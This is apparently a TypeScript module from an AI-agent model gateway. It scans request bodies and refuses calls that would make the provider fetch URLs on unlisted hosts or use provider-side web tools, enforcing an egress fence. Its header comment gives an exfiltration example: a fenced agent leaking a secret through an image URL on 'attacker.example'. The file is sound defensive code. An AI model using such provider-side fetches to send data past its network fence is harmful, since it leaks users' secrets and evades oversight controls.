/**
 * What a model call asks the provider to reach for the agent. The egress fence keeps the agent's own
 * connections to the gateway (and `allowed-hosts`), but the provider fetches on its side whatever a
 * call names: an image, a file or a document given by URL, an MCP server, and its server-side tools
 * go to the web (web search, web fetch, URL context). A fenced agent could send what it read to any
 * host that way: `https://attacker.example/?d=<secret>` as an image. So, while the fence is asked
 * for, the gateway refuses a call that names a URL on a host `allowed-hosts` does not list, or that
 * gives the model a tool reaching the web (`reachesPastFence`). Pure: the parsed body in, the reaches out.
 */
import type { IncomingHttpHeaders } from 'node:http';
import { allows, type AllowedHost } from '../config/allowed-hosts.js';

/** One thing a call asks the provider to reach, where the body asks it (a JSON path). */
export type Reach =
  /** A URL the provider would fetch, on this host and port. */
  | { kind: 'url'; at: string; host: string; port: number }
  /** A tool, model or plugin of the provider's own that reaches out from its side. */
  | { kind: 'tool'; at: string; tool: string }
  /** What cannot be checked (not JSON, too many objects, a URL no two parsers read alike): not let through. */
  | { kind: 'unchecked'; at: string; why: string };

/**
 * A key as a lenient parser reads it: any case, without `_` (proto-JSON takes `fileData` for
 * `file_data`; Go's encoding/json ignores case). Every key the check looks for is compared this way.
 */
const keyOf = (key: string): string => key.toLowerCase().replaceAll('_', '');

/** Keys whose string value the providers fetch when it is a URL (OpenAI, Anthropic, OpenRouter, Gemini's OpenAI API). */
const URL_KEYS = new Set(
  [
    'url',
    'image_url',
    'file_url',
    'file_data',
    'audio_url',
    'video_url',
    'document_url',
    'server_url',
    'file_uri'
  ].map(keyOf)
);

/**
 * The tools the client runs (Hermes'): a function (OpenAI's `function`, `custom`) or a tool with no
 * type (Anthropic's). Any other type is a tool of the provider's, run on its side: web search and
 * fetch, MCP, a hosted shell or code container with its own network policy. An allow-list: a tool a
 * provider adds tomorrow is refused until it is known not to reach out.
 */
const CLIENT_TOOLS = new Set(['function', 'custom']);

/**
 * Models that search the web on every call, whatever the request says (OpenAI's, OpenRouter's,
 * Perplexity's), and OpenRouter's routers, which pick a model (one of those among them).
 */
const SEARCHING_MODEL = /:online\s*$|search|(^|\/)sonar|perplexity\/|^~?openrouter\/(auto|fusion)/i;

/** OpenRouter's plugins that run nothing past the provider (an allow-list, as tools are). */
const CLIENT_PLUGINS = new Set(['response-healing', 'file-parser']);

/** The schemes a provider fetches that the check can follow to a host. */
const FETCHED = new Set(['http:', 'https:', 'ws:', 'wss:']);

/** How many objects and arrays are looked at, at most: a body is bounded (request-body.ts), and so is this walk. */
export const MAX_NODES = 1_000_000;

/** Words from the body in a refusal: bounded (the log line says where, not the whole of it). */
const SHOWN = 200;
const shown = (text: string): string =>
  text.length > SHOWN ? `${text.slice(0, SHOWN)}… (${text.length} characters)` : text;

/** A space, a control character (C0, DEL, C1) or a backslash: read one way here, another by some fetcher. */
function unclear(value: string): boolean {
  for (let i = 0; i < value.length; i++) {
    const code = value.charCodeAt(i);
    if (code <= 0x20 || (code >= 0x7f && code <= 0x9f) || code === 0x5c) return true;
  }
  return false;
}

/**
 * A value under a URL key: inline data, nothing, or a URL the check reads as a provider would. One
 * that two parsers could read as two hosts (a space, a control character or a backslash anywhere, a
 * user name, no scheme, a scheme not fetched over the network) is refused as unchecked.
 */
function urlReach(at: string, value: string): Reach | undefined {
  if (value === '' || /^data:/i.test(value)) return undefined;
  const unchecked = (why: string): Reach => ({ kind: 'unchecked', at, why: `its URL ${why}` });
  if (unclear(value)) return unchecked('holds a space, a control character or a backslash');
  if (!/^[a-z][a-z0-9+.-]*:\/\//i.test(value)) return unchecked('is not an absolute URL');
  let url: URL;
  try {
    url = new URL(value);
  } catch {
    return unchecked('does not parse');
  }
  if (!FETCHED.has(url.protocol))
    return unchecked(`is ${shown(url.protocol)}, not http(s) or ws(s)`);
  if (url.username || url.password) return unchecked('names a user');
  const port = Number(url.port) || (url.protocol === 'http:' || url.protocol === 'ws:' ? 80 : 443);
  // The host as written must be the host as parsed, in letters, digits, hyphens and dots (or an
  // address in brackets): what a parser changed first (percent-decoding, IDNA, `;` kept in a name
  // that another parser ends the host at) is where two parsers part.
  const written = /^[a-z][a-z0-9+.-]*:\/\/([^/?#]*)/i.exec(value)?.[1]?.toLowerCase();
  const same = written === url.host || written === `${url.hostname}:${port}`;
  if (!same || !/^([a-z0-9.-]+|\[[0-9a-f:.]+\])$/.test(url.hostname))
    return unchecked('names its host in a form parsers read apart');
  return { kind: 'url', at, host: url.hostname.replace(/^\[|\]$/g, ''), port };
}

/**
 * What the top of the body asks of the provider's own: tools, plugins, MCP servers, web search,
 * searching models, and state stored with the provider that the check cannot see (a stored prompt,
 * a conversation). Keys compared as a lenient parser reads them; a list given in another shape is
 * refused, not skipped.
 */
function topLevel(body: Record<string, unknown>): Reach[] {
  const found: Reach[] = [];
  const tool = (at: string, what: string): void =>
    void found.push({ kind: 'tool', at, tool: what });
  const entries = Object.entries(body).map(([key, value]) => ({ key, name: keyOf(key), value }));
  const listed = (
    name: string,
    allowed: (entry: Record<string, unknown>) => boolean,
    what: (entry: Record<string, unknown>) => string
  ): void => {
    for (const { key, value } of entries.filter(e => e.name === name)) {
      if (!Array.isArray(value)) {
        tool(key, `${key} given as ${value === null ? 'null' : typeof value}, not a list`);
        continue;
      }
      value.forEach((entry: unknown, i) => {
        if (typeof entry !== 'object' || entry === null || Array.isArray(entry))
          tool(`${key}[${i}]`, `${key}[${i}] that is not an object`);
        else if (!allowed(entry as Record<string, unknown>))
          tool(`${key}[${i}]`, what(entry as Record<string, unknown>));
      });
    }
  };
  const named = (v: unknown): string => (typeof v === 'string' ? v : String(JSON.stringify(v)));
  listed(
    'tools',
    t => t.type === undefined || (typeof t.type === 'string' && CLIENT_TOOLS.has(t.type)),
    t => named(t.type)
  );
  listed(
    'plugins',
    p => typeof p.id === 'string' && CLIENT_PLUGINS.has(p.id),
    p => `plugin ${named(p.id)}`
  );
  for (const { key, name, value } of entries) {
    if (name === 'mcpservers' && !(Array.isArray(value) && value.length === 0))
      tool(key, 'MCP servers');
    if (name === 'websearchoptions') tool(key, key);
    if (name === 'prompt' || name === 'conversation')
      tool(key, `a stored ${name} (its tools and state are the provider's, unseen here)`);
    const models =
      name === 'model' ? [value] : name === 'models' && Array.isArray(value) ? value : [];
    models.forEach((model: unknown, i) => {
      if (typeof model === 'string' && SEARCHING_MODEL.test(model))
        tool(name === 'model' ? key : `${key}[${i}]`, `${model} (a model that searches the web)`);
    });
  }
  return found;
}

/**
 * Every URL and tool of the provider's the body asks it to reach. The walk keeps its own stack (a body
 * nested deeper than the call stack is no crash) and stops at MAX_NODES containers, which refuses
 * the call: a body too big to check is not let through unchecked.
 */
export function reachOf(body: unknown): Reach[] {
  if (typeof body !== 'object' || body === null) return [];
  const found = Array.isArray(body) ? [] : topLevel(body as Record<string, unknown>);
  const stack: { value: object; at: string }[] = [{ value: body, at: '' }];
  let nodes = 0;
  const push = (value: unknown, at: string): void => {
    if (typeof value !== 'object' || value === null) return;
    if (++nodes <= MAX_NODES) stack.push({ value, at });
  };
  for (let next = stack.pop(); next; next = stack.pop()) {
    const { value, at } = next;
    if (Array.isArray(value)) {
      value.forEach((item, i) => push(item, `${at}[${i}]`));
      continue;
    }
    for (const [key, child] of Object.entries(value)) {
      const where = at ? `${at}.${key}` : key;
      const reach =
        typeof child === 'string' && URL_KEYS.has(keyOf(key)) ? urlReach(where, child) : undefined;
      if (reach) found.push(reach);
      push(child, where);
    }
  }
  if (nodes > MAX_NODES)
    found.push({
      kind: 'unchecked',
      at: 'the whole body',
      why: `it holds more than ${MAX_NODES.toLocaleString('en-US')} objects and lists, too many to check`
    });
  return found;
}

/** What the fence lets the provider reach: a URL on a listed host, on its port; never a tool of its own. */
export function reachesPastFence(reach: Reach, hosts: readonly AllowedHost[]): boolean {
  return reach.kind !== 'url' || !allows(hosts, reach.host, reach.port);
}

/** The refusal's words: what was asked, where in the body, and what would let it. */
export function reachRefusal(reach: Reach): string {
  const what =
    reach.kind === 'unchecked'
      ? `cannot be checked for what the provider would fetch: ${reach.why}`
      : reach.kind === 'tool'
        ? `gives the model the provider's own ${JSON.stringify(shown(reach.tool))}, which reaches out from the provider's side`
        : `asks the provider to fetch from ${shown(reach.host)}:${reach.port}, a host "allowed-hosts" does not list`;
  return `model gateway: the call ${what} (at ${shown(reach.at)}), past the egress fence; refused. "allowed-hosts: *" lets the agent reach any host`;
}

/**
 * The request headers sent on under the fence: only those the providers' APIs read to answer (the
 * body's type, the API's version and betas, the client's name). Others go nowhere: OpenRouter shows
 * `HTTP-Referer` and `X-Title` as the app's attribution, where others read them, and an organization
 * or project header would bill the key's other accounts.
 */
export function fencedHeaders(headers: IncomingHttpHeaders): IncomingHttpHeaders {
  return Object.fromEntries(
    Object.entries(headers).filter(
      ([name]) => FORWARDED_HEADERS.has(name.toLowerCase()) || /^x-stainless-/i.test(name)
    )
  );
}

const FORWARDED_HEADERS = new Set([
  'content-type',
  'accept',
  'anthropic-version',
  'anthropic-beta',
  'openai-beta',
  'user-agent'
]);
